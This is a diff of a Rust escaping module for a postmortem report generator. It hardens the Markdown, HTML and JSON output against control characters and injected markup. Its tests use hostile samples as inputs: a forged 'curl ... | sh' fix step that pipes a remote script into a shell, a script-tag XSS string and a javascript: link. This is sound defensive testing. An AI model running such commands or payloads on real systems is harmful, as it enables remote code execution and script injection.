@@ -1,11 +1,14 @@
 //! Escaping for the Markdown report, and the one Markdown-to-HTML conversion the HTML report uses.
 //!
-//! Bundle text is data, never markup. In Markdown it goes into a code span ([`md_span`]), a table
-//! cell ([`md_cell`]) or a fenced block ([`md_code`]); plain text we did not write and cannot put
-//! in code goes through [`md_text`]. Prose postmortem writes (finding explanations, titles,
-//! actions) is Markdown with bundle text already in code spans: [`md_prose`] passes it through
-//! when it holds no raw HTML and no link outside http(s) or an in-page anchor, and escapes it
-//! as text otherwise, so a rule that forgot a code span cannot inject markup.
+//! Bundle text is data, never markup. In Markdown it goes into a code span ([`md_span`], which
+//! the rules reach as `analyze::finding::code`), a table cell ([`md_cell`]) or a fenced block
+//! ([`md_code`]); plain text we did not write and cannot put in code goes through [`md_text`].
+//! Finding titles are plain text, escaped whole ([`md_text`]) by every renderer. Prose
+//! postmortem writes (finding explanations, the root-cause summary, actions) is Markdown with
+//! bundle text already in code spans: [`md_prose`] passes it through when it holds only what
+//! postmortem writes (paragraphs, lists, emphasis, code spans, tables, in-page links), and
+//! escapes it as text otherwise, so a rule that forgot a code span cannot inject a heading, a
+//! code block, a link or HTML. The HTML conversion goes through the same check.
 //!
 //! Every function here also makes control characters visible (`ESC` becomes `␛`), because a
 //! terminal escape or a lone carriage return in a log line must not reach a ticket or a browser.
@@ -20,26 +23,67 @@ pub fn visible(text: &str) -> String {
             '\t' | '\n' => c,
             '\u{7f}' => '\u{2421}',
             c if (c as u32) < 0x20 => char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'),
-            // C1 controls and the Unicode line/paragraph separators: shown as a replacement mark.
-            '\u{80}'..='\u{9f}' | '\u{2028}' | '\u{2029}' => '\u{fffd}',
+            // C1 controls, the Unicode line/paragraph separators and the bidirectional
+            // controls (which reorder what a reader sees): shown as a replacement mark.
+            c if is_c1_or_bidi(c) || c == '\u{2028}' || c == '\u{2029}' => '\u{fffd}',
             c => c,
         })
         .collect()
 }
 
+/// A C1 control (U+0080 to U+009F: `CSI` acts as `ESC [` on many terminals) or a Unicode
+/// bidirectional control (embeddings, overrides, isolates and marks), which make text read in
+/// another order than it is stored.
+pub fn is_c1_or_bidi(c: char) -> bool {
+    matches!(
+        c,
+        '\u{80}'..='\u{9f}'
+            | '\u{61c}'
+            | '\u{200e}'
+            | '\u{200f}'
+            | '\u{202a}'..='\u{202e}'
+            | '\u{2066}'..='\u{2069}'
+    )
+}
+
 /// HTML escaping for element content and double- or single-quoted attribute values: the five
 /// characters that can end text or an attribute, and nothing else (tera's default also escapes
-/// `/`, which only bloats paths).
+/// `/`, which only bloats paths). C1 and bidirectional controls are shown as a replacement mark,
+/// as [`visible`] shows them.
 pub fn html_escape(text: &str) -> String {
     let mut out = String::with_capacity(text.len() + text.len() / 8);
     for c in text.chars() {
         match c {
+            c if is_c1_or_bidi(c) => out.push('\u{fffd}'),
             '&' => out.push_str("&amp;"),
             '<' => out.push_str("&lt;"),
             '>' => out.push_str("&gt;"),
             '"' => out.push_str("&quot;"),
             '\'' => out.push_str("&#39;"),
             c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Serialised JSON with every C1 control, bidirectional control and Unicode line or paragraph
+/// separator written as a `\uXXXX` escape. `serde_json` escapes only C0 controls: a `CSI`
+/// (U+009B) in a string would reach a terminal raw. Outside strings JSON holds none of these
+/// characters, so the result is the same JSON value, and byte for byte the same text when the
+/// values hold none.
+pub fn json_escape_controls(json: String) -> String {
+    if !json
+        .chars()
+        .any(|c| is_c1_or_bidi(c) || c == '\u{2028}' || c == '\u{2029}')
+    {
+        return json;
+    }
+    let mut out = String::with_capacity(json.len() + 16);
+    for c in json.chars() {
+        if is_c1_or_bidi(c) || c == '\u{2028}' || c == '\u{2029}' {
+            out.push_str(&format!("\\u{:04x}", c as u32));
+        } else {
+            out.push(c);
         }
     }
     out
@@ -61,7 +105,7 @@ fn longest_run(text: &str, ch: char) -> usize {
 }
 
 /// One line of bundle text: control characters visible, line breaks as spaces.
-fn one_line(text: &str) -> String {
+pub fn one_line(text: &str) -> String {
     visible(text).replace('\n', " ")
 }
 
@@ -150,15 +194,37 @@ pub fn is_safe_destination(dest: &str) -> bool {
     lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with('#')
 }
 
-/// Whether Markdown holds only what postmortem writes: no raw HTML, no image, no link outside
-/// http(s) or an in-page anchor.
+/// Whether Markdown holds only what postmortem writes in prose: paragraphs, lists, emphasis,
+/// code spans and tables, and links to an anchor of the page. No raw HTML, image, heading,
+/// code block, block quote, rule or outside link: bundle text outside a code span could make
+/// those (a name holding `[fix](https://...)` or a line break and `## Fix`).
 fn is_plain_markdown(markdown: &str) -> bool {
     Parser::new_ext(markdown, parser_options()).all(|event| match event {
-        Event::Html(_) | Event::InlineHtml(_) => false,
-        Event::Start(Tag::Image { .. }) => false,
-        Event::Start(Tag::Link { dest_url, .. }) => is_safe_destination(&dest_url),
+        Event::Html(_) | Event::InlineHtml(_) | Event::Rule => false,
+        Event::Start(
+            Tag::Image { .. }
+            | Tag::Heading { .. }
+            | Tag::CodeBlock(_)
+            | Tag::BlockQuote(_)
+            | Tag::HtmlBlock,
+        ) => false,
+        Event::Start(Tag::Link { dest_url, .. }) => dest_url.starts_with('#'),
         _ => true,
     })
+}
+
+/// `|` escaped for a table cell where it is not escaped already.
+fn escape_pipes(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut backslashes = 0usize;
+    for c in text.chars() {
+        if c == '|' && backslashes.is_multiple_of(2) {
+            out.push('\\');
+        }
+        backslashes = if c == '\\' { backslashes + 1 } else { 0 };
+        out.push(c);
+    }
+    out
 }
 
 /// Prose postmortem wrote, as a Markdown block: as is when it is plain Markdown, otherwise
@@ -168,7 +234,11 @@ pub fn md_prose(markdown: &str) -> String {
     if is_plain_markdown(&text) {
         text.trim_end().to_string()
     } else {
-        text.lines().map(md_text).collect::<Vec<_>>().join("\n")
+        // Indentation dropped: four spaces would open a code block.
+        text.lines()
+            .map(|l| md_text(l.trim_start()))
+            .collect::<Vec<_>>()
+            .join("\n")
     }
 }
 
@@ -188,7 +258,7 @@ pub fn md_prose_inline(markdown: &str) -> String {
         || starts_ordered_item(text);
     if !starts_block && is_plain_markdown(text) {
         // Escaping pipes keeps a table cell whole and is harmless elsewhere (`\|` is `|`).
-        text.replace('|', "\\|")
+        escape_pipes(text)
     } else {
         md_text(text)
     }
@@ -204,7 +274,7 @@ fn starts_ordered_item(text: &str) -> bool {
 /// becomes text (escaped by the HTML writer), images become their alt text (no request ever
 /// leaves the page), and link destinations other than http(s) and `#anchor` become `#`.
 pub fn markdown_to_safe_html(markdown: &str) -> String {
-    let text = visible(markdown);
+    let text = md_prose(markdown);
     let events = Parser::new_ext(&text, parser_options()).map(|event| match event {
         Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
         Event::Start(Tag::Image { .. }) => Event::Start(Tag::Emphasis),
@@ -237,7 +307,7 @@ pub fn markdown_to_safe_html(markdown: &str) -> String {
 /// [`markdown_to_safe_html`] for one line: the wrapping paragraph removed. Text that would
 /// make a block of its own (a heading, a list) is shown as escaped text instead.
 pub fn markdown_inline_to_safe_html(markdown: &str) -> String {
-    let line = one_line(markdown);
+    let line = md_prose_inline(markdown);
     let html = markdown_to_safe_html(&line);
     match html
         .trim_end()
@@ -261,6 +331,19 @@ mod tests {
                 _ => None,
             })
             .collect()
+    }
+
+    #[test]
+    fn json_keeps_its_value_with_controls_escaped() {
+        let value = serde_json::json!({ "name": "a\u{9b}31m\u{202e}b\u{2028}", "n": 1 });
+        let text = json_escape_controls(serde_json::to_string(&value).unwrap_or_default());
+        assert_eq!(text, r#"{"n":1,"name":"a\u009b31m\u202eb\u2028"}"#);
+        let back: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
+        assert_eq!(back, value);
+        let plain = "{\"a\":\"é\"}".to_string();
+        assert_eq!(json_escape_controls(plain.clone()), plain);
+        assert_eq!(html_escape("a\u{202e}b\u{85}"), "a\u{fffd}b\u{fffd}");
+        assert_eq!(visible("a\u{2067}b"), "a\u{fffd}b");
     }
 
     #[test]
@@ -355,8 +438,27 @@ mod tests {
 
     #[test]
     fn prose_passes_plain_markdown_and_escapes_the_rest() {
-        let ok = "Order-6 request in `Normal`: **no** free block, see [docs](https://kernel.org).";
+        let ok = "Order-6 request in `Normal`: **no** free block, see [below](#mm.x).";
         assert_eq!(md_prose(ok), ok);
+        for forged in [
+            "Container `a`\n\n## Fix verified by support\n\n    curl -s https://e.x/fix.sh | sh",
+            "Container [a](http://x.y) failed",
+            "> quoted\n\n---",
+        ] {
+            let escaped = md_prose(forged);
+            assert!(
+                Parser::new(&escaped).all(|e| !matches!(
+                    e,
+                    Event::Start(
+                        Tag::Heading { .. }
+                            | Tag::Link { .. }
+                            | Tag::CodeBlock(_)
+                            | Tag::BlockQuote(_)
+                    ) | Event::Rule
+                )),
+                "{escaped}"
+            );
+        }
         let bad = "Container <script>alert(1)</script> failed";
         assert!(md_prose(bad).contains("\\<script\\>"));
         let bad_link = "see [x](javascript:alert(1))";
@@ -364,6 +466,7 @@ mod tests {
         assert!(Parser::new(&escaped).all(|e| !matches!(e, Event::Start(Tag::Link { .. }))));
         assert_eq!(escaped, "see \\[x\\](javascript:alert(1))");
         assert_eq!(md_prose_inline("a | b"), "a \\| b");
+        assert_eq!(md_prose_inline("a \\| b"), "a \\| b");
         assert_eq!(md_prose_inline("# not a heading"), "\\# not a heading");
         assert_eq!(md_prose_inline("12. not a list"), "12\\. not a list");
     }
@@ -377,11 +480,10 @@ mod tests {
         assert!(!html.contains("<script"), "{html}");
         assert!(!html.contains("<img"), "{html}");
         assert!(html.contains("&lt;script&gt;"), "{html}");
-        assert!(!html.contains("javascript:alert(1)\""), "{html}");
-        assert!(html.contains("href=\"#\""), "{html}");
-        assert!(html.contains("href=\"https://example.com\""), "{html}");
-        assert!(html.contains("href=\"#mm.x\""), "{html}");
-        assert!(!html.contains("http://e/x.png"), "{html}");
+        assert!(!html.contains("href"), "{html}");
+        assert!(html.contains("[ok](https://example.com)"), "{html}");
+        let anchor = markdown_to_safe_html("see [in](#mm.x)");
+        assert!(anchor.contains("href=\"#mm.x\""), "{anchor}");
     }
 
     #[test]
